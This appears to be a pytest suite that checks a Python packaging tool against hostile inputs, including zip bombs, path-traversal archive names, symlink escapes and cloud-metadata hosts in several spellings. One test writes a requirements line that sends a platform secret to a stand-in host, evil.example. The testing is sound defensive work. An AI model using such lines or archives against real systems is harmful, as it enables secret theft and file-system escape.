"""Hostile input is refused, or harmless: nothing outside of its directory, in bounded time, and no error but a refusal.

The inputs are in ``attack``, where ``run.py`` takes more of them, longer, with their memory measured.
"""

from __future__ import annotations

import functools
import json
import os
import socket
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING
from unittest.mock import patch

import pytest
from hypothesis import HealthCheck, Phase, given, settings

from attack import cases, guard, scenes, strategies, targets, ways, zips
from attack.strategies import STRATEGIES
from attack.zips import MIB, Member, zipped
from depload.errors import ArchiveError, InvalidWheelError, NotAWheelhouseError, RequirementsError
from depload.published import wheelhouse
from depload.source import formats, imports, installed, layouts
from depload.standards import archive, lockfile, requirements, toml, wheels
from depload.standards.archive import Limits
from depload.travels import activation
from depload.travels.activation import unpacking

if TYPE_CHECKING:
    from collections.abc import Callable

RUN = Path(ways.__file__).with_name("run.py")


def found_by(target: str, data: bytes) -> str:
    return guard.tried(functools.partial(targets.TARGETS[target].attack, data)).finding


# --- what was made by hand, and what was found before -------------------------------------------------


@pytest.mark.parametrize("target", cases.CASES)
def test_hostile_input_made_by_hand_is_refused_or_harmless(target: str) -> None:
    found = {label: found_by(target, cases.data_of(case)) for label, case in cases.CASES[target].items()}
    assert {label: finding for label, finding in found.items() if finding} == {}


@pytest.mark.parametrize("target", cases.CASES)
def test_what_was_found_once_is_not_found_again(target: str) -> None:
    files = sorted((ways.CORPUS / target).glob("*"))
    assert files
    found = {file.name: found_by(target, file.read_bytes()) for file in files}
    assert {name: finding for name, finding in found.items() if finding} == {}


def test_the_corpus_is_small_and_every_file_says_what_it_shows() -> None:
    files = [file for file in ways.CORPUS.rglob("*") if file.is_file()]
    assert sum(file.stat().st_size for file in files) < 200_000
    assert {file.parent.name for file in files} <= cases.CASES.keys()
    assert [file.name for file in files if file.name.startswith("found-")] == []


@pytest.mark.parametrize("scene", scenes.NODE_DIRECTORY)
def test_a_directory_that_another_user_prepared_gains_nothing(scene: str) -> None:
    assert guard.tried(scenes.NODE_DIRECTORY[scene]).finding == ""


@pytest.mark.parametrize("scene", scenes.SOURCE_DIRECTORY)
def test_a_hostile_directory_as_a_source_is_refused_or_harmless(scene: str) -> None:
    assert guard.tried(scenes.SOURCE_DIRECTORY[scene]).finding == ""


# --- what hypothesis makes ----------------------------------------------------------------------------


@pytest.mark.parametrize("target", STRATEGIES)
def test_hostile_input_of_any_make_is_refused_or_harmless(target: str) -> None:
    @settings(
        max_examples=60,
        deadline=None,
        derandomize=True,
        database=None,
        phases=[Phase.generate, Phase.shrink],
        suppress_health_check=list(HealthCheck),
    )
    @given(STRATEGIES[target])
    def none_is_found(data: bytes) -> None:
        assert found_by(target, data) == ""

    none_is_found()


def test_whatever_was_put_into_a_manifest_something_else_can_be_put_in_as_well() -> None:
    @settings(max_examples=600, derandomize=True, database=None, phases=[Phase.generate], deadline=None)
    @given(strategies._lies())
    def a_manifest_is_made(data: bytes) -> None:
        assert json.loads(data[1:]).keys() == zips.manifest_of(targets.SOUND).keys()

    a_manifest_is_made()


# --- the guard itself: what it does not see, nobody does ----------------------------------------------


def linked(link: Path, to: Path) -> Path:
    link.symlink_to(to)
    return link


ESCAPES: dict[str, Callable[[Path], object]] = {
    "a file outside is written": lambda inside: (inside.parent / "x").write_text(""),
    "a folder outside is made": lambda inside: (inside.parent / "x").mkdir(),
    "a file outside is read": lambda _: Path("/etc/hostname").open().close(),
    "a link is followed out": lambda inside: (linked(inside / "l", inside.parent) / "x").write_text(""),
    "a file is moved out": lambda inside: linked(inside / "l", inside).rename(inside.parent / "x"),
    "a file outside is removed": lambda inside: (inside.parent / "x").unlink(missing_ok=True),
    "a host is asked for": lambda _: socket.getaddrinfo("localhost", 80),
    "a program is started": lambda _: subprocess.run([sys.executable, "-c", ""], check=True),
    "it never ends": lambda _: [None for _ in iter(int, 1)],
}


@pytest.mark.parametrize("escape", ESCAPES)
def test_an_escape_is_seen(escape: str) -> None:
    assert guard.tried(ESCAPES[escape], patience=0.5).escape


def test_a_crash_is_seen_and_what_stays_inside_is_not() -> None:
    assert "ZeroDivisionError" in guard.tried(lambda _: 1 // 0).crash
    assert guard.tried(lambda inside: (inside / "x").write_text("")).finding == ""


def test_the_runner_prints_a_row_for_each_way_and_says_what_it_took() -> None:
    command = [sys.executable, str(RUN), "--only", "lock", "--way", "corpus", "--json"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    (row,) = json.loads(done.stdout)
    assert (done.returncode, row["crashes"], row["escapes"]) == (0, 0, 0)
    assert row["inputs"] == len(list((ways.CORPUS / "lock").iterdir()))


# --- what was mended, one by one ----------------------------------------------------------------------


def test_zips_inside_take_from_what_the_outer_one_leaves(tmp_path: Path) -> None:
    (tmp_path / "a.zip").write_bytes(zips.ordinary({"zeros": bytes(10 * MIB), "b/c": b""}))
    left = archive.extract(tmp_path / "a.zip", tmp_path / "to", Limits(members=5, size=12 * MIB))
    assert (left.members, left.size) == (3, 2 * MIB)
    left = archive.extract(tmp_path / "a.zip", tmp_path / "to-2")
    assert left.size == 6 * MIB, "16 MiB is what a file of this size may unpack to, with all that lies in it"
    with pytest.raises(ArchiveError, match=r"Limits\.size"):
        archive.extract(tmp_path / "a.zip", tmp_path / "to-3", left)


def test_a_table_of_members_that_would_fill_the_memory_is_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(archive, "_LONGEST_TABLE", 1000)
    (tmp_path / "a.zip").write_bytes(zips.crowded([b"%d" % at for at in range(100)]))
    (fault,) = archive.inspect(tmp_path / "a.zip")
    assert "its table of members has" in fault.what


def test_a_name_that_is_plainly_safe_is_judged_as_every_other_is() -> None:
    plain = [name for name in cases.TRAVERSALS if archive._PLAIN.fullmatch(name) and len(name) <= archive._LONGEST_NAME]
    broken = [name for name in plain for _, breaks in archive._NAME_RULES if breaks(name)]
    assert plain
    assert broken == []


@pytest.mark.parametrize("name", targets.SECRETS)
def test_a_source_cannot_have_the_platforms_secrets_sent_anywhere(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, "hush")
    monkeypatch.setenv("INDEX_PASSWORD", "mine")
    (tmp_path / "requirements.txt").write_text(f"-i https://${{{name}}}@evil.example/\n")
    with pytest.raises(RequirementsError, match=f"{name} belongs to the platform"):
        requirements.read(tmp_path / "requirements.txt", tmp_path)
    monkeypatch.setenv("AWS_REGION", "eu-1")
    (tmp_path / "requirements.txt").write_text("-i https://me:${INDEX_PASSWORD}@host.${AWS_REGION}/\n")
    found = requirements.read(tmp_path / "requirements.txt", tmp_path)
    assert found.index_url == "https://me:mine@host.eu-1/", "what an index is asked with comes from a variable"


@pytest.mark.parametrize(
    ("host", "refused"),
    [
        ("169.254.169.254", True),
        ("2852039166", True),
        ("0xA9FEA9FE", True),
        ("::ffff:a9fe:a9fe", True),
        ("fe80::1", True),
        ("fd00:ec2::254", True),
        ("metadata.google.internal.", True),
        ("pypi.org", False),
        ("10.0.0.7", False),
        ("::1", False),
        ("localhost", False),
    ],
)
def test_the_metadata_service_of_a_cloud_is_no_index_in_whatever_spelling(host: str, *, refused: bool) -> None:
    assert requirements.is_metadata_service(host) is refused


@pytest.mark.parametrize("marker", ["os_name ~= 'x'", "'a' in 'b'", "python_version ~= '1'"])
def test_a_marker_that_nothing_can_compare_is_a_fault_of_its_line(marker: str, tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text(f"six\nsix ; {marker}\n")
    with pytest.raises(RequirementsError, match=r"requirements\.txt:2"):
        requirements.read(tmp_path / "requirements.txt", tmp_path)


def test_keys_of_thousands_of_parts_are_not_handed_to_the_parser() -> None:
    with pytest.raises(ValueError, match="keys of thousands of parts"):
        toml.read("a." * 20_000 + "b = 1")
    assert toml.read('urls = ["' + "a.b." * 100 + '"]\n' * 1)


def test_a_lock_of_gigabytes_is_not_read(tmp_path: Path) -> None:
    with (tmp_path / "pylock.toml").open("wb") as file:
        file.truncate(100 << 30)  # a hole, so it takes no room
    with pytest.raises(RequirementsError, match=r"pylock\.toml: a lock of more than"):
        formats.detect(tmp_path, targets.Opener(tmp_path))


def test_a_lock_names_files_not_paths() -> None:
    text = 'lock-version = "1.0"\n[[packages]]\nname = "a"\nsdist = {name = "../../x.tar.gz", url = "https://h/x"}\n'
    with pytest.raises(lockfile.InvalidLockError, match="for a file name"):
        lockfile.read(text, targets.TARGET)


def test_a_wheel_of_an_index_is_judged_as_one_of_the_source_is(tmp_path: Path) -> None:
    path = tmp_path / "alpha-1.0-py3-none-any.whl"
    path.write_bytes(zips.wheel({"alpha.py": b""}, more=[Member("../evil.py")]))
    with pytest.raises(InvalidWheelError, match="leads out of the archive"):
        wheels.read(path, sha256="0" * 64)
    unusual = [Member("Alpha.py"), Member("link", b"alpha.py", mode=0o120777), Member("a", method=12, packed=b"")]
    path.write_bytes(zips.wheel({"alpha.py": b""}, more=unusual))
    assert wheels.faults(path), "in a source they are faults, which somebody can mend"
    assert wheels.read(path).name == "alpha"


def test_a_wheel_may_not_bring_deploads_record_of_a_complete_site(tmp_path: Path) -> None:
    path = tmp_path / "alpha-1.0-py3-none-any.whl"
    for name in (".depload.json", "alpha-1.0.data/data/.depload.json", ".DEPLOAD.json"):
        path.write_bytes(zips.wheel(more=[Member(name)]))
        assert "that name is depload's own" in wheels.faults(path)[0].what
        with pytest.raises(activation.ActivationError, match="says that a site is complete"):
            unpacking._installed(path.name, name)


def test_tags_that_multiply_are_not_multiplied() -> None:
    filename = "alpha-1.0-" + "-".join(["a." * 400 + "a"] * 3) + ".whl"
    assert wheels.tags_of(filename) == frozenset()
    assert len(wheels.tags_of("alpha-1.0-py2.py3-none-any.whl")) == 2


def test_modules_below_folders_of_a_pth_file_are_found_with_many_of_both(tmp_path: Path) -> None:
    path = tmp_path / "alpha-1.0-py3-none-any.whl"
    files = {"x.pth": b"lib\nlib/more\n\n" + b"no%d\n" % 1 * 5000, "lib/a.py": b"", "lib/more/b.py": b"", "c.py": b""}
    path.write_bytes(zips.wheel(files))
    names = wheels.import_names([wheels.read(path)])["alpha"]
    assert {"a", "b", "c"} <= set(names)


def test_a_chain_of_conditions_is_no_depth(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text("if a:\n import one\n" + "elif b:\n import two\n" * 2000 + "else:\n import three\n")
    found = imports.names(tmp_path / "m.py")
    assert [name for _, name in found][:2] == ["one", "two"]
    assert found == sorted(found)
    assert len(found) == 2002


def test_of_a_source_no_more_is_parsed_than_a_few_megabytes(tmp_path: Path) -> None:
    for name, size in (("giant.py", 600 * 1024), *((f"m{at}.py", 500 * 1024) for at in range(20))):
        (tmp_path / name).write_bytes(b"#" * size)
    looked_into = list(imports.bearable(sorted(tmp_path.iterdir())))
    assert tmp_path / "giant.py" not in looked_into
    assert 6 <= len(looked_into) <= 8


def test_a_project_whose_configuration_is_a_link_is_none(tmp_path: Path) -> None:
    (tmp_path / "outside.toml").write_text("[project]\n")
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "pyproject.toml").symlink_to(tmp_path / "outside.toml")
    assert not layouts.is_project(tmp_path / "p")


@pytest.mark.parametrize("row", ["//etc/hostname", "link/hostname", "/etc/hostname", "../hostname", "x" * 300])
def test_an_installed_package_has_no_files_outside_of_the_source(row: str, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/etc")
    info = tmp_path / "a-1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Name: a\nVersion: 1\n")
    (info / "RECORD").write_text(f"{row},,\n")
    assert installed.files(info) == [info / "METADATA"]
    (tmp_path / "to").mkdir()
    assert zipfile.is_zipfile(installed.pack(info, "a", tmp_path / "to"))


@pytest.mark.parametrize("key", ["digest", "name"])
@pytest.mark.parametrize("value", ["../../x", "/x", "a\nb", "a b", ""])
def test_a_manifests_names_are_no_paths(key: str, value: str, tmp_path: Path) -> None:
    path = tmp_path / "x.wheelhouse.zip"
    path.write_bytes(zips.wheelhouse(targets.SOUND, {**zips.manifest_of(targets.SOUND), key: value}))
    with pytest.raises(NotAWheelhouseError, match=key):
        wheelhouse.read(path)


def test_the_digest_names_the_site_so_it_must_be_that_of_the_wheels(tmp_path: Path) -> None:
    path, manifest = tmp_path / "x.zip", zips.manifest_of(targets.SOUND)
    for digest in ("0" * 64, f"../../{manifest['digest']}", str(tmp_path / "x"), "[a"):
        path.write_bytes(zips.wheelhouse(targets.SOUND, {**manifest, "digest": digest}))
        with pytest.raises(activation.ActivationError, match="the digest is of other wheels"):
            activation.manifest_of(str(path))
    path.write_bytes(zips.wheelhouse(targets.SOUND))
    assert activation.manifest_of(str(path)) == manifest
    read = wheelhouse.read(path)
    assert activation.digest_of(read.to_json()) == manifest["digest"], "as where it is written"


def test_unpacking_stops_where_a_member_holds_more_than_it_says(tmp_path: Path) -> None:
    data = zips.wheel(more=[Member("a", bytes(9), 8, packed=zips.deflated(bytes(30 * MIB)))])
    (tmp_path / "x.zip").write_bytes(zips.wheelhouse({"alpha-1.0-py3-none-any.whl": data}))
    written = 0
    write = os.write

    def counting(descriptor: int, view: bytes) -> int:
        nonlocal written
        written += len(view)
        return write(descriptor, view)

    with patch("os.write", counting):
        assert targets.activate(tmp_path / "x.zip", tmp_path / "home") is None
    assert written < MIB


def test_a_wheelhouse_that_costs_more_than_its_size_is_not_hashed(tmp_path: Path) -> None:
    shared = (Member(f"{at}.whl", at=0) for at in range(50))
    path = tmp_path / "x.wheelhouse.zip"
    path.write_bytes(zipped(Member("manifest.json", json.dumps(zips.manifest_of({})).encode()), *shared))
    assert any("as in a zip bomb" in fault.what or "calls it" in fault.what for fault in archive.hostile(path))
    found = list(wheelhouse._faults(path, wheelhouse.read(path)))
    assert all(fault.where.endswith(".whl") for fault in found)
